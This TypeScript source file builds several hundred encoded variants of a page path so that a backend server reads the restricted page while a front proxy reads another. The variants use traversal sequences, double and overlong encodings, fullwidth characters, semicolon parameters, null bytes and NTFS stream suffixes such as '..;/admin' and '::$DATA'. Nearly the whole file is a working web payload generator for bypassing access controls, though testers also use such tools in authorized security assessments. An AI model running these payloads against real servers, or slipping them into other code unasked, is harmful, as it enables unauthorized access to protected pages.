/** Ways to write the path of one page so that some server reads that page and a careless proxy reads another. */

const prefixes = [
  ...[
    '/',
    '//',
    '///',
    '/./',
    '/.//',
    '/%2e/',
    '/%2E/',
    '/.%2f',
    '/%2f',
    '/%2F/',
    '/%252f',
    '/x/../',
    '/x/./../',
  ],
  ...[
    '/x/%2e%2e/',
    '/x/.%2e/',
    '/x/%2e./',
    '/x/..%2f',
    '/x%2f..%2f',
    '/x/%252e%252e/',
    '/x/..%252f',
    '/../',
    '/../../',
  ],
  ...[
    '/;/',
    '/;x=1/',
    '/x/..;/',
    '/x/..;a=b/',
    '/x;/../',
    '/%3b/',
    '/x/..%3b/',
    '/.;/',
    '/public/..;/',
    '/public;/../',
  ],
  ...[
    '/\\',
    '/%5c',
    '/%5C',
    '/x\\..\\',
    '/x/..\\',
    '/..\\',
    '/x%5c..%5c',
    '/x/..%5c',
    '/%255c',
    '/public\\..\\',
  ],
  ...[
    '/%c0%af',
    '/%c0%2f',
    '/x/%c0%ae%c0%ae/',
    '/x/..%c0%af',
    '/%e0%80%af',
    '/%c1%9c',
    '/%ef%bc%8f',
    '/%e2%88%95',
  ],
  ...[
    '/%u002f',
    '/%u2215',
    '/%u2216',
    '/%uff0f',
    '/x/%u002e%u002e/',
    '/x/%uff0e%uff0e/',
    '/x/%ef%bc%8e%ef%bc%8e/',
  ],
  ...[
    '/public/../',
    '/public/%2e%2e/',
    '/public/..%5c',
    '/public/.../',
    '/public/. ./',
    '/public/%20../',
    '/public/..%20/',
  ],
  ...[
    '/...',
    '/%20/',
    '/%20',
    '/%09/',
    '/%00/',
    '/%0a',
    '/%a0',
    '/%c2%a0',
    '/+/',
    '/+',
    '/%e2%80%a5/',
    '/public/%e2%80%a5/',
  ],
];

const suffixes = [
  ...[
    '/',
    '//',
    '/.',
    '/./',
    '/%2e',
    '/x/..',
    '/x/%2e%2e',
    '/x/../',
    '/..;/admin',
    '/%2e/',
    '/;',
    '/;x',
    '/%20',
    '/..%2fadmin',
  ],
  ...[
    '.',
    '..',
    '...',
    '%2e',
    '%2E%2e',
    '. .',
    '%20',
    '%20%20',
    '.%20',
    '%20.',
    '+',
    '%a0',
    '%c2%a0',
    '%e3%80%80',
    '%e2%80%8b',
    '%c2%ad',
  ],
  ...[
    ';',
    ';x',
    ';x=1',
    ';jsessionid=1',
    ';/',
    ';a/',
    '%3b',
    '%3bx',
    ';.css',
    '%3b.css',
    '/;/x.css',
    ';%2f',
    ';x;y',
  ],
  ...['?', '?x', '??', '?/../x', '/?x=1', '%3f', '%3fx', '%23', '%23x', '%26', '?.css', '%3f.css'],
  ...['%00', '%00.css', '%00/', '%2500', '%0a', '%0d%0a', '%09', '%7f', '%u0000', '%c0%80'],
  ...['\\', '%5c', '%255c', '%2f', '%2F', '%252f', '%2f.', '%2f%2e', '%c0%af', '%u002f', '%ef%bc%8f'],
  ...[
    '::$DATA',
    '::$data',
    '%3a%3a$DATA',
    '::%24DATA',
    '::$INDEX_ALLOCATION',
    ':$i30:$INDEX_ALLOCATION',
    ':$I30:$INDEX_ALLOCATION/',
  ],
  ...[
    ':',
    ':x',
    '::',
    '~1',
    '~1/',
    '%7e1',
    '.json',
    '.html',
    '.css',
    '.aspx',
    '.do',
    '.JSON',
    '/x',
    '/x.css',
    '/index',
    '*',
    '%2a',
    '%',
  ],
];

/** The same name, written otherwise. */
function disguises(name: string): readonly string[] {
  const found = [
    name,
    name.toUpperCase(),
    `${name[0]?.toUpperCase()}${name.slice(1)}`,
    `${name.slice(0, 6).toUpperCase()}~1`,
  ];
  for (let at = 0; at < name.length; at++) {
    const [before, letter, after] = [name.slice(0, at), name[at] ?? '', name.slice(at + 1)];
    const hex = letter.charCodeAt(0).toString(16);
    const wide = encodeURIComponent(String.fromCharCode(letter.charCodeAt(0) + 0xfee0));
    const overlong = `%c${letter.charCodeAt(0) >= 0x40 ? '1' : '0'}%${(0x80 | (letter.charCodeAt(0) & 0x3f)).toString(16)}`;
    const forms = [
      letter.toUpperCase(),
      `%${hex}`,
      `%${hex.toUpperCase()}`,
      `%25${hex}`,
      `%u00${hex}`,
      wide,
      overlong,
    ];
    const accents = [
      `${letter}%CC%81`,
      `${letter}%C2%AD`,
      `${letter}%E2%80%8B`,
      `%u${(letter.charCodeAt(0) + 0xfee0).toString(16)}`,
    ];
    for (const form of [...forms, ...accents]) found.push(`${before}${form}${after}`);
    if (letter === 'i') found.push(`${before}%C4%B1${after}`, `${before}%C4%B0${after}`);
    if (letter === 'a')
      found.push(`${before}%C4%81${after}`, `${before}%C3%A1${after}`, `${before}%C2%AA${after}`);
    if (letter === 's') found.push(`${before}%C5%BF${after}`);
  }
  found.push([...name].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join(''));
  found.push([...name].map((letter) => `%25${letter.charCodeAt(0).toString(16)}`).join(''));
  return found;
}

/** Several hundred targets for one page, the plain one first; each only once. */
export function pathVariants(name: string): readonly string[] {
  const upper = name.toUpperCase();
  const encoded = `%${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
  const targets = [
    ...disguises(name).map((written) => `/${written}`),
    ...prefixes.flatMap((prefix) => [prefix + name, prefix + upper]),
    ...suffixes.flatMap((suffix) => [`/${name}${suffix}`, `/${upper}${suffix}`]),
    ...prefixes.map((prefix, at) => prefix + encoded + (suffixes[(at * 7) % suffixes.length] ?? '')),
    ...suffixes.map((suffix, at) => (prefixes[(at * 5) % prefixes.length] ?? '/') + upper + suffix),
  ];
  // A space would end the target: such a variant is only sent encoded.
  return [...new Set(targets.map((target) => target.replaceAll(' ', '%20')))];
}
